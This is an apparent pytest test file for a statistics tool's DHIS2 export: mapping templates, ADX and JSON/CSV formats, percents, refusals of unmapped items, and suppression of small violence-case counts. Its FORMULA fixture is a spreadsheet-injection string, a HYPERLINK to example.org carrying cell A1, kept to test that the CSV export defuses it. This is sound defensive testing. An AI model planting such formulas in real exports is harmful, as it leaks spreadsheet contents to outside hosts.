"""Figures for DHIS2 (issue 16): the mapping template, exports as ADX and dataValueSets (JSON, CSV), each
period in its format's own form, percents as numerator and denominator, refusals that list what the mapping
lacks, approved data sets only, desk figures only as protected aggregates, and a round trip back to
``values --json``."""

from __future__ import annotations

import csv
import io
import json
import xml.etree.ElementTree as ElementTree
from pathlib import Path

import pytest
import xmlschema

from main import main
from storage.records.approvals import decide
from storage.records.values import save_indicator_values
from storage.reports.dhis2 import (
    ADX_NAMESPACE,
    ExportRefused,
    export_dhis2,
    mapping_columns,
    quantities,
    read_export,
    read_mapping,
    write_mapping_template,
)
from storage.reports.suppression import is_small
from storage.validation import ValueInput
from storage.views.entry_sheet import submit_sheet
from sync.importer import import_bundles
from tests.conftest import CLERK_PASSWORD, SUPERVISOR_PASSWORD
from tests.sync_helpers import add_values, export_to, last_month, make_pair
from tests.test_reports import _desk_cases as quetta_march_2024_cases

XSD = Path(__file__).parent / "fixtures" / "adx" / "adx.xsd"
FORMULA = '=HYPERLINK("http://example.org/?"&A1,"see")'
RAPE_CELL = "age=under18;gbv_type=rape;sex=female"


def figure(indicator: str, district: str, period: str, cell: str = "total", value=None, numerator=None,
           denominator=None, comment: str = "checked with the register") -> ValueInput:
    # A comment on every value: an outlier warning (which needs one) never blocks these hand-made figures.
    return ValueInput(indicator, district, period, cell, value, numerator, denominator, comment=comment)


@pytest.fixture
def centre_values(clerk):
    """Monthly, quarterly and annual figures of 2025 at the centre, a percent among them, and a comment that
    a spreadsheet would run as a formula."""
    save_indicator_values(clerk, [
        figure("POL-02", "QUETTA", "2025-10", value=7, comment=FORMULA),
        figure("POL-02", "PISHIN", "2025-10", value=3),
        figure("PRO-04", "QUETTA", "2025-10", numerator=12, denominator=40),
        figure("CRT-04", "QUETTA", "2025Q4", numerator=90, denominator=100),
        figure("REF-01", "QUETTA", "2025", value=1000),
        figure("REF-01", "QUETTA", "2025", "sex=female", value=480),
        figure("REF-01", "QUETTA", "2025", "sex=male", value=515),
        figure("REF-01", "QUETTA", "2025", "sex=transgender", value=5),
    ])
    return clerk


def mapping_rows(path: Path) -> list[dict]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def write_rows(path: Path, rows: list[dict]) -> Path:
    """A mapping saved as a spreadsheet saves it: CSV UTF-8, the template's columns."""
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return path


def fill_mapping(template: Path, out: Path, scheme: str = "uid", leave_empty=lambda row: False) -> Path:
    """The template filled as a DHIS2 administrator would: a data element per indicator and quantity, a
    category option combo per cell (none for the total), a data set per institution, an org unit per
    district. ``leave_empty(row)``: rows left without identifiers."""
    rows = mapping_rows(template)
    for row in rows:
        if leave_empty(row):
            continue
        if row["kind"] == "data":
            row[f"data_set_{scheme}"] = "DS" + row["indicator"].split("-")[0]
            row[f"data_element_{scheme}"] = f"{row['indicator']}.{row['quantity']}"
            row[f"category_option_combo_{scheme}"] = "" if row["cell"] == "total" else row["cell"]
        elif not row["desk"]:
            row[f"org_unit_{scheme}"] = "OU" + row["district"]
    return write_rows(out, rows)


@pytest.fixture
def mapping(centre_values, tmp_path: Path) -> Path:
    write_mapping_template(centre_values, tmp_path / "template.csv")
    return fill_mapping(tmp_path / "template.csv", tmp_path / "map.csv")


def adx_values(path: Path) -> list[dict]:
    """Each dataValue of an ADX file with its group's attributes."""
    found = []
    for group in ElementTree.parse(path).getroot().iter(f"{{{ADX_NAMESPACE}}}group"):
        for value in group.iter(f"{{{ADX_NAMESPACE}}}dataValue"):
            found.append({**group.attrib, **value.attrib})
    return found


def json_values(path: Path) -> list[dict]:
    return json.loads(path.read_text(encoding="utf-8"))["dataValues"]


def csv_values(path: Path) -> list[dict]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


# -- the mapping template -------------------------------------------------------------------------------------


def test_the_mapping_template_has_every_cell_quantity_district_and_desk(supervisor, district_db: Path, tmp_path: Path,
                                                                        monkeypatch, capsys):
    monkeypatch.setenv("MIZAN_PASSWORD", SUPERVISOR_PASSWORD)
    out = tmp_path / "map.csv"
    assert main(["--db", str(district_db), "--user", "sana", "dhis2", "mapping-template", "--id-scheme", "code",
                 "--out", str(out)]) == 0
    with out.open(encoding="utf-8-sig", newline="") as handle:
        reader = csv.DictReader(handle)
        header, rows = reader.fieldnames, list(reader)
    assert header == mapping_columns("code")
    assert header[-5:] == ["data_set_code", "data_element_code", "category_option_combo_code",
                           "attribute_option_combo_code", "org_unit_code"]
    catalogue = supervisor.catalogue
    data = [(row["indicator"], row["cell"], row["quantity"]) for row in rows if row["kind"] == "data"]
    assert data == [(code, cell, quantity) for code, indicator in catalogue.indicators.items()
                    for cell in catalogue.cells(code) for quantity in quantities(indicator)]
    by_key = {(row["indicator"], row["cell"], row["quantity"]): row for row in rows if row["kind"] == "data"}
    # A percent is two rows, numerator and denominator; a count one, its value.
    assert [key for key in by_key if key[0] == "PRO-04"] == [("PRO-04", "total", "numerator"),
                                                             ("PRO-04", "total", "denominator")]
    homicide = by_key[("POL-01", "offence_group=homicide", "value")]
    assert (homicide["category_options"], homicide["unit"], homicide["frequency"]) == ("offence_group: Homicide", "count", "monthly")
    assert by_key[("POL-05", "age=under18;sex=female", "numerator")]["category_options"] == "age: Under 18; sex: Female"
    places = [(row["district"], row["desk"]) for row in rows if row["kind"] == "org_unit"]
    assert [district for district, desk in places if not desk] == list(catalogue.districts)
    assert ("QUETTA", "QTA-CITY") in places
    assert all(not row[column] for row in rows for column in header[-5:])  # the identifiers are for the partner
    assert capsys.readouterr().out.startswith(f"Wrote {len(rows)} rows to {out}.")


# -- periods, percents, comments ---------------------------------------------------------------------------


def test_each_format_writes_periods_in_its_own_form(centre_values, mapping: Path, tmp_path: Path):
    for fmt in ("adx", "json", "csv"):
        export_dhis2(centre_values, mapping, tmp_path / f"out.{fmt}", fmt, year=2025)
    adx = {(v["dataElement"], v["period"]) for v in adx_values(tmp_path / "out.adx")}
    assert {("POL-02.value", "2025-10-01/P1M"), ("CRT-04.numerator", "2025-10-01/P3M"),
            ("REF-01.value", "2025-01-01/P1Y")} <= adx
    dvs = {(v["dataElement"], v["period"]) for v in json_values(tmp_path / "out.json")}
    assert {("POL-02.value", "202510"), ("CRT-04.numerator", "2025Q4"), ("REF-01.value", "2025")} <= dvs
    assert {(v["dataelement"], v["period"]) for v in csv_values(tmp_path / "out.csv")} == dvs
    assert {period for _, period in adx} == {"2025-10-01/P1M", "2025-10-01/P3M", "2025-01-01/P1Y"}


def test_a_percent_is_sent_as_its_numerator_and_denominator(centre_values, mapping: Path, tmp_path: Path):
    export_dhis2(centre_values, mapping, tmp_path / "out.json", "json", period="2025-10")
    sent = {(v["dataElement"], v["orgUnit"]): v["value"] for v in json_values(tmp_path / "out.json")}
    assert (sent[("PRO-04.numerator", "OUQUETTA")], sent[("PRO-04.denominator", "OUQUETTA")]) == ("12", "40")
    assert not any(element.startswith("PRO-04.value") for element, _ in sent)  # never the percent itself


def test_a_mapping_that_sends_a_percent_s_value_is_refused(centre_values, mapping: Path, tmp_path: Path):
    rows = mapping_rows(mapping)
    rows.append({**next(row for row in rows if row["indicator"] == "PRO-04"), "quantity": "value",
                 "data_element_uid": "PRO-04.percent"})
    bad = write_rows(tmp_path / "bad.csv", rows)
    with pytest.raises(ExportRefused) as refused:
        export_dhis2(centre_values, bad, tmp_path / "out.json", "json", period="2025-10")
    assert str(refused.value) == f"1 problem(s) in the mapping {bad}; nothing was written."
    assert refused.value.items == [f"row {len(rows) + 1}: PRO-04 is sent as its numerator and denominator, not 'value': "
                                   "DHIS2 would add or average a percent or a ratio."]
    assert not (tmp_path / "out.json").exists()


def test_the_csv_quotes_a_comment_that_starts_like_a_formula_and_reads_back_unchanged(centre_values, mapping: Path,
                                                                                      tmp_path: Path):
    out = tmp_path / "out.csv"
    export_dhis2(centre_values, mapping, out, "csv", period="2025-10")
    text = out.read_text(encoding="utf-8")
    assert not text.startswith("\ufeff")  # DHIS2 reads the first column's name
    [comment] = [v["comment"] for v in csv_values(out) if v["dataelement"] == "POL-02.value" and v["orgunit"] == "OUQUETTA"]
    assert comment == "'" + FORMULA
    back = read_export(centre_values.catalogue, read_mapping(centre_values.catalogue, mapping), out, "csv")
    assert next(row for row in back if row["indicator"] == "POL-02" and row["district"] == "QUETTA")["comment"] == FORMULA


# -- refusals --------------------------------------------------------------------------------------------------


def test_unmapped_items_refuse_the_export_with_their_list_and_write_nothing(centre_values, centre_db: Path,
                                                                            tmp_path: Path, monkeypatch, capsys):
    template = tmp_path / "template.csv"
    write_mapping_template(centre_values, template)
    partial = fill_mapping(template, tmp_path / "partial.csv", leave_empty=lambda row: (
        (row["indicator"], row["quantity"]) == ("PRO-04", "numerator") or (row["district"], row["desk"]) == ("PISHIN", "")))
    monkeypatch.setenv("MIZAN_PASSWORD", CLERK_PASSWORD)
    out = tmp_path / "out.json"
    command = ["--db", str(centre_db), "--user", "clara", "dhis2", "export", "--format", "json", "--mapping",
               str(partial), "--period", "2025-10", "--out", str(out)]
    assert main(command) == 3
    assert capsys.readouterr().err.splitlines() == [
        f"2 value(s) have no DHIS2 identifier in the mapping {partial}; nothing was written. Fill these in, or leave "
        "them out with --skip-unmapped:",
        "  PRO-04 total numerator: no data element (1 value(s))",
        "  district PISHIN: no org unit (1 value(s))",
    ]
    assert not out.exists()
    assert main([*command, "--json"]) == 3
    refusal = json.loads(capsys.readouterr().out)
    assert refusal["details"] == [
        {"kind": "data", "indicator": "PRO-04", "cell": "total", "quantity": "numerator", "missing": "data_element", "values": 1},
        {"kind": "org_unit", "district": "PISHIN", "missing": "org_unit", "values": 1}]
    assert not out.exists()
    # --skip-unmapped leaves them out and says how many.
    assert main([*command, "--skip-unmapped", "--json"]) == 0
    summary = json.loads(capsys.readouterr().out)
    assert (summary["skipped_unmapped"], summary["values"], summary["org_units"]) == (2, 2, 1)
    assert {(v["dataElement"], v["orgUnit"]) for v in json_values(out)} == {("POL-02.value", "OUQUETTA"),
                                                                          ("PRO-04.denominator", "OUQUETTA")}
    assert main([*command, "--skip-unmapped"]) == 0
    assert "Left out 2 value(s) with no DHIS2 identifier (--skip-unmapped):" in capsys.readouterr().out


def test_adx_needs_a_data_set_for_each_value(centre_values, tmp_path: Path):
    template = tmp_path / "template.csv"
    write_mapping_template(centre_values, template)
    no_sets = fill_mapping(template, tmp_path / "map.csv")
    write_rows(no_sets, [{**row, "data_set_uid": ""} for row in mapping_rows(no_sets)])
    with pytest.raises(ExportRefused) as refused:
        export_dhis2(centre_values, no_sets, tmp_path / "out.adx", "adx", period="2025Q4")
    assert refused.value.items == ["CRT-04 total denominator: no data set, which ADX needs (1 value(s))",
                                   "CRT-04 total numerator: no data set, which ADX needs (1 value(s))"]
    export_dhis2(centre_values, no_sets, tmp_path / "out.json", "json", period="2025Q4")  # a dataValueSet needs none


def test_usage_refusals_say_what_to_do(centre_values, centre_db: Path, mapping: Path, tmp_path: Path, monkeypatch,
                                       capsys):
    monkeypatch.setenv("MIZAN_PASSWORD", CLERK_PASSWORD)
    common = ["--db", str(centre_db), "--user", "clara", "dhis2", "export", "--format", "adx", "--out",
              str(tmp_path / "out.adx")]
    assert main([*common, "--mapping", str(mapping), "--period", "2025-13"]) == 2
    assert capsys.readouterr().err.strip() == "'2025-13' is not a period; write it like 2026-10, 2026Q4 or 2026."
    assert main([*common, "--mapping", str(mapping), "--period", "2025-13", "--json"]) == 2
    assert json.loads(capsys.readouterr().out) == {
        "refused": "'2025-13' is not a period; write it like 2026-10, 2026Q4 or 2026."}
    not_a_mapping = tmp_path / "values.csv"
    not_a_mapping.write_text("indicator,district,period,cell,value\n", encoding="utf-8")
    assert main([*common, "--mapping", str(not_a_mapping), "--year", "2025"]) == 2
    assert capsys.readouterr().err.strip().startswith(f"{not_a_mapping} is not a DHIS2 mapping: it needs the columns "
                                                      "of `dhis2 mapping-template` (kind, indicator,")
    with pytest.raises(SystemExit) as usage:  # argparse: --period or --year, not both
        main([*common, "--mapping", str(mapping), "--period", "2025-10", "--year", "2025"])
    assert usage.value.code == 2
    assert not (tmp_path / "out.adx").exists()


# -- the formats' shapes ------------------------------------------------------------------------------------


def test_adx_validates_against_the_adx_schema(centre_values, mapping: Path, tmp_path: Path):
    out = tmp_path / "out.adx"
    export_dhis2(centre_values, mapping, out, "adx", year=2025, exported="2026-01-05T09:30:00Z")
    schema = xmlschema.XMLSchema(XSD)
    schema.validate(out)
    root = ElementTree.parse(out).getroot()
    assert (root.tag, root.get("exported")) == (f"{{{ADX_NAMESPACE}}}adx", "2026-01-05T09:30:00Z")
    # The schema is not a formality: a dataValueSets period, or a value without its data element, fails it.
    text = out.read_text(encoding="utf-8")
    assert not schema.is_valid(text.replace('period="2025-10-01/P1M"', 'period="202510"', 1))
    assert not schema.is_valid(text.replace('dataElement="POL-02.value" ', "", 1))
    values = adx_values(out)
    assert {"dataElement": "REF-01.value", "value": "480", "categoryOptionCombo": "sex=female", "orgUnit": "OUQUETTA",
            "period": "2025-01-01/P1Y", "dataSet": "DSREF", "comment": "checked with the register"} in values


def test_json_is_a_data_value_set_as_dhis2_documents_it(centre_values, tmp_path: Path):
    write_mapping_template(centre_values, tmp_path / "template.csv", scheme="code")
    mapping = fill_mapping(tmp_path / "template.csv", tmp_path / "map.csv", scheme="code")
    out = tmp_path / "out.json"
    export_dhis2(centre_values, mapping, out, "json", year=2025)
    payload = json.loads(out.read_text(encoding="utf-8"))
    assert set(payload) == {"idScheme", "dataValues"} and payload["idScheme"] == "CODE"
    allowed = {"dataElement", "period", "orgUnit", "categoryOptionCombo", "attributeOptionCombo", "value", "comment"}
    for value in payload["dataValues"]:
        assert {"dataElement", "period", "orgUnit", "value"} <= set(value) <= allowed
        assert all(isinstance(text, str) for text in value.values())  # DHIS2 takes every field as text
    assert {"dataElement": "POL-02.value", "period": "202510", "orgUnit": "OUPISHIN", "value": "3",
            "comment": "checked with the register"} in payload["dataValues"]


@pytest.mark.parametrize("fmt", ["adx", "json", "csv"])
def test_the_export_read_back_through_the_mapping_equals_values_json(fmt, centre_values, centre_db: Path, mapping: Path,
                                                                     tmp_path: Path, monkeypatch, capsys):
    monkeypatch.setenv("MIZAN_PASSWORD", CLERK_PASSWORD)
    out = tmp_path / f"out.{fmt}"
    assert main(["--db", str(centre_db), "--user", "clara", "dhis2", "export", "--format", fmt, "--mapping",
                 str(mapping), "--year", "2025", "--out", str(out), "--json"]) == 0
    summary = json.loads(capsys.readouterr().out)
    assert (summary["skipped_unmapped"], summary["suppressed"]) == (0, 0)
    assert main(["--db", str(centre_db), "--user", "clara", "values", "--json"]) == 0
    stored = json.loads(capsys.readouterr().out)
    back = read_export(centre_values.catalogue, read_mapping(centre_values.catalogue, mapping), out, fmt)

    def comparable(rows: list[dict]) -> list[tuple]:
        return [(row["indicator"], row["district"], row["period"], row["cell"],
                 *(None if row[name] is None else float(row[name]) for name in ("value", "numerator", "denominator")),
                 row["comment"]) for row in rows]

    assert comparable(back) == comparable(stored)
    assert summary["values"] == sum(2 if row["numerator"] is not None else 1 for row in stored)


# -- approved data sets only -----------------------------------------------------------------------------------


def test_approved_only_sends_only_the_figures_of_approved_data_sets(tmp_path: Path):
    pair = make_pair(tmp_path / "pair")
    try:
        period = last_month()
        add_values(pair.supervisor, {"PRO-01": 41, "CRT-01": 12})  # prosecution and courts
        submit_sheet(pair.supervisor, "QUETTA", "prosecution", period)
        submit_sheet(pair.supervisor, "QUETTA", "courts", period)
        bundles = tmp_path / "bundles"
        assert [o.status for o in import_bundles(pair.clerk, [export_to(pair.supervisor, bundles)])] == ["imported"]
        decide(pair.clerk, "QUETTA", "prosecution", period, "approved")  # courts stays submitted
        write_mapping_template(pair.clerk, tmp_path / "template.csv")
        mapping = fill_mapping(tmp_path / "template.csv", tmp_path / "map.csv")
        everything = export_dhis2(pair.clerk, mapping, tmp_path / "all.json", "json", period=period)
        approved = export_dhis2(pair.clerk, mapping, tmp_path / "approved.json", "json", period=period, approved_only=True)
        assert {v["dataElement"] for v in json_values(tmp_path / "all.json")} == {"PRO-01.value", "CRT-01.value"}
        assert [(v["dataElement"], v["value"]) for v in json_values(tmp_path / "approved.json")] == [("PRO-01.value", "41")]
        assert (everything.desk_left_out, approved.desk_left_out, approved.values) == (False, True, 1)
    finally:
        pair.close()


# -- desk figures ------------------------------------------------------------------------------------------------


def test_a_small_desk_count_leaves_in_no_format(supervisor, tmp_path: Path):
    # Quetta, March 2024 (the desk report's cases): 8 consented physical assaults of adult women (5 referred),
    # 2 consented rapes of girls, and a case without consent to reporting.
    quetta_march_2024_cases(supervisor)
    write_mapping_template(supervisor, tmp_path / "template.csv")
    mapping_path = fill_mapping(tmp_path / "template.csv", tmp_path / "map.csv")
    mapping = read_mapping(supervisor.catalogue, mapping_path)
    catalogue = supervisor.catalogue
    for fmt in ("adx", "json", "csv"):
        out = tmp_path / f"desk.{fmt}"
        summary = export_dhis2(supervisor, mapping_path, out, fmt, period="2024-03")
        assert summary.suppressed > 0 and summary.skipped_unmapped == 0
        sent = {(row["indicator"], row["cell"]): row for row in read_export(catalogue, mapping, out, fmt)}
        assert ("POL-09", "age=adult;gbv_type=sexual_assault;sex=female") in sent  # zeros leave: they identify nobody
        assert ("POL-09", RAPE_CELL) not in sent  # the 2 rapes
        assert "R-0" not in out.read_text(encoding="utf-8") and "PA-0" not in out.read_text(encoding="utf-8")
        # Nor can they be worked out: the clients' total less the cells sent, or less those with an incident date.
        clients = sent.get(("POL-09", "total"), {}).get("value")
        cells_sent = sum(row["value"] for (code, cell), row in sent.items() if code == "POL-09" and cell != "total")
        assert clients is None or clients - cells_sent != 2
        known = sent.get(("POL-11", "total"), {}).get("denominator")
        assert clients is None or known is None or clients - known != 2
        # Every count sent is 0 or at least 5.
        for (code, _), row in sent.items():
            for name in quantities(catalogue.indicators[code]):
                assert row[name] is None or not is_small(int(row[name])), (fmt, code, name, row)


def test_two_rows_sent_to_the_same_dhis2_figure_are_refused(centre_values, mapping: Path, tmp_path: Path):
    rows = mapping_rows(mapping)
    numbers = {(row["indicator"], row["cell"], row["quantity"]): number for number, row in enumerate(rows, start=2)}
    for row in rows:
        if (row["indicator"], row["cell"], row["quantity"]) == ("POL-02", "sex=male", "value"):
            row["category_option_combo_uid"] = "sex=female"  # a slip when copying identifiers
    clash = write_rows(tmp_path / "clash.csv", rows)
    with pytest.raises(ExportRefused) as refused:
        export_dhis2(centre_values, clash, tmp_path / "out.csv", "csv", period="2025-10")
    assert refused.value.items == [
        f"row {numbers[('POL-02', 'sex=male', 'value')]} goes to the same data element and option combos as row "
        f"{numbers[('POL-02', 'sex=female', 'value')]}: DHIS2 would keep only one of the two figures."]
    assert not (tmp_path / "out.csv").exists()


def test_a_period_without_figures_writes_nothing(centre_values, mapping: Path, tmp_path: Path):
    with pytest.raises(ExportRefused) as refused:
        export_dhis2(centre_values, mapping, tmp_path / "out.json", "json", period="2024-02")
    assert str(refused.value) == "There are no figures of 2024-02 to send; nothing was written."
    assert not (tmp_path / "out.json").exists()


def test_whoever_may_run_reports_may_export(operator, tmp_path: Path):
    # An export reads the database, as a report does ("view": every role); it writes only its file.
    save_indicator_values(operator, [figure("POL-02", "QUETTA", "2025-10", value=4)])
    write_mapping_template(operator, tmp_path / "template.csv")
    mapping = fill_mapping(tmp_path / "template.csv", tmp_path / "map.csv")
    summary = export_dhis2(operator, mapping, tmp_path / "out.adx", "adx", period="2025-10")
    assert (summary.values, summary.suppressed) == (1, 0)
    xmlschema.XMLSchema(XSD).validate(tmp_path / "out.adx")


def test_a_mapping_saved_by_excel_with_semicolons_in_utf_16_reads_the_same(centre_values, mapping: Path, tmp_path: Path):
    rows = mapping_rows(mapping)
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=list(rows[0]), delimiter=";")
    writer.writeheader()
    writer.writerows(rows)
    excel = tmp_path / "excel.csv"
    excel.write_bytes(buffer.getvalue().encode("utf-16"))  # Excel's "Unicode text" keeps a byte-order mark
    catalogue = centre_values.catalogue
    assert read_mapping(catalogue, excel) == read_mapping(catalogue, mapping)
